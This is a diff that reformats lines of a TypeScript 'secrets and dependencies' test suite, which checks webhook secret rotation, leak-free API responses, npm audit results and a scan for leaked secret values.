-    for (const path of ['/connections', `/connections/${fixtures.connectionId}`, '/audit?top=1000', `/exports/${fixtures.exportId}/runs`]) expect((await stack.api.get(path)).status).toBe(200);
+    for (const path of ['/connections', `/connections/${fixtures.connectionId}`, '/audit?top=1000', `/exports/${fixtures.exportId}/runs`])
+      expect((await stack.api.get(path)).status).toBe(200);
   });
 
   it('a webhook signing secret, made and rotated, is in no answer but those two', async () => {
-    const rotatedAnswer = await fetch(`${stack.apiUrl}/webhooks/${fixtures.webhookId}/rotate-secret`, { method: 'POST', headers: { authorization: `Bearer ${await stack.tokenFor('admin', 'alice')}` } });
+    const rotatedAnswer = await fetch(`${stack.apiUrl}/webhooks/${fixtures.webhookId}/rotate-secret`, {
+      method: 'POST',
+      headers: { authorization: `Bearer ${await stack.tokenFor('admin', 'alice')}` },
+    });
     expect(rotatedAnswer.status).toBe(200);
     expect(rotatedAnswer.headers.get('cache-control')).toBe('no-store');
     const rotated = ((await rotatedAnswer.json()) as { secret: string }).secret;
@@ -551,7 +794,10 @@ describe('secrets and dependencies', () => {
     stack.webhookReceiver.setSecret(rotated);
     const queued = await stack.api.post(`/webhooks/${fixtures.webhookId}/test`);
     expect(queued.status).toBe(202);
-    const received = await eventually(async () => stack.webhookReceiver.deliveries.find((delivery) => delivery.webhookId === queued.body.deliveryId), { timeoutMs: 30_000, what: 'the test delivery' });
+    const received = await eventually(
+      async () => stack.webhookReceiver.deliveries.find((delivery) => delivery.webhookId === queued.body.deliveryId),
+      { timeoutMs: 30_000, what: 'the test delivery' },
+    );
     expect(received.verified).toBe(true);
     for (const path of ['/webhooks', `/webhooks/${fixtures.webhookId}`, `/webhooks/${fixtures.webhookId}/deliveries`]) {
       const response = await stack.api.get(path);
@@ -574,7 +820,9 @@ describe('secrets and dependencies', () => {
       const installed = installedVersions(JSON.parse(await run('npm', ['ls', '--omit=dev', '--all', '--json'])));
       const hits = affectedInstalls(installed);
       // The check itself can fail: an affected version is found.
-      expect(affectedInstalls(new Map([['protobufjs', new Set(['7.2.4', '7.6.6'])]]))).toEqual(expect.arrayContaining([expect.stringMatching(/^protobufjs@7\.2\.4: /)]));
+      expect(affectedInstalls(new Map([['protobufjs', new Set(['7.2.4', '7.6.6'])]]))).toEqual(
+        expect.arrayContaining([expect.stringMatching(/^protobufjs@7\.2\.4: /)]),
+      );
       expect(affectedInstalls(new Map([['protobufjs', new Set(['7.6.6'])]]))).toEqual([]);
       recordResult('security', 'npm-audit', {
         passed: false,
@@ -588,7 +836,12 @@ describe('secrets and dependencies', () => {
     }
     const counts = report.metadata?.vulnerabilities ?? {};
     const high = (counts.high ?? 0) + (counts.critical ?? 0);
-    recordResult('security', 'npm-audit', { passed: high === 0, title: 'npm audit --omit=dev --audit-level=high', checked: 'production dependencies against the registry’s advisories', figures: JSON.stringify(counts) });
+    recordResult('security', 'npm-audit', {
+      passed: high === 0,
+      title: 'npm audit --omit=dev --audit-level=high',
+      checked: 'production dependencies against the registry’s advisories',
+      figures: JSON.stringify(counts),
+    });
     expect(high).toBe(0);
   });
 
@@ -596,7 +849,14 @@ describe('secrets and dependencies', () => {
     const audit = await stack.api.get('/audit?top=1000');
     expect(audit.status).toBe(200);
     const scan = await scanForSecrets(stack, secretsUsed);
-    recordResult('security', 'secret-scan-security', { passed: scan.findings.length === 0, title: 'Secrets nowhere (security suite)', checked: 'every secret value set in this suite (connections, rotations), in every form (plain, JSON-escaped, base64)', secrets: secretsUsed.length, ...scan, findings: scan.findings.slice(0, 20) });
+    recordResult('security', 'secret-scan-security', {
+      passed: scan.findings.length === 0,
+      title: 'Secrets nowhere (security suite)',
+      checked: 'every secret value set in this suite (connections, rotations), in every form (plain, JSON-escaped, base64)',
+      secrets: secretsUsed.length,
+      ...scan,
+      findings: scan.findings.slice(0, 20),
+    });
     expect(scan.findings).toEqual([]);
     expect(scan.tableRows).toBeGreaterThan(0);
   });
